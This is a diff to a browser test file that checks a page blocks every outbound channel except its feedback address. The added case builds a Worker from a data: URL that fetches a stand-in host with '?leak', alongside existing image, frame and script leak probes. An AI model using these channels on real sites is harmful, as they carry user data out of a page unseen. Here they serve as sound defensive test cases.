@@ -18,10 +18,12 @@ for (const path of PLACES) {
     for (let index = 0; index < (await summaries.count()); index += 1) await summaries.nth(index).click();
     const fields = page.locator('section:not(:has(form)) textarea');
     await expect(fields.first()).toBeAttached();
-    await page.waitForLoadState('networkidle');
-    const before = sent.length;
     const count = await fields.count();
     expect(count).toBeGreaterThan(0);
+    // A field that is used for the first time may load its code; from then on there is nothing to load.
+    for (let index = 0; index < count; index += 1) await fields.nth(index).focus();
+    await page.waitForLoadState('networkidle');
+    const before = sent.length;
     for (let index = 0; index < count; index += 1) {
       await fields.nth(index).fill(`${CANARY}, ${ADDRESS}`);
       await fields.nth(index).blur();
@@ -64,6 +66,7 @@ test('the browser refuses every way out but the feedback address, even if a scri
       'image elsewhere': () => Object.assign(new Image(), { src: 'https://example.com/x.png?leak' }),
       'image here': () => Object.assign(new Image(), { src: '/x.png?leak' }),
       worker: () => new Worker('/x.js?leak'),
+      'worker from data': () => new Worker('data:text/javascript,fetch("https://example.com/?leak")'),
       frame: () => document.body.append(Object.assign(document.createElement('iframe'), { src: '/?leak' })),
       'script elsewhere': () =>
         document.body.append(Object.assign(document.createElement('script'), { src: 'https://example.com/x.js?leak' })),
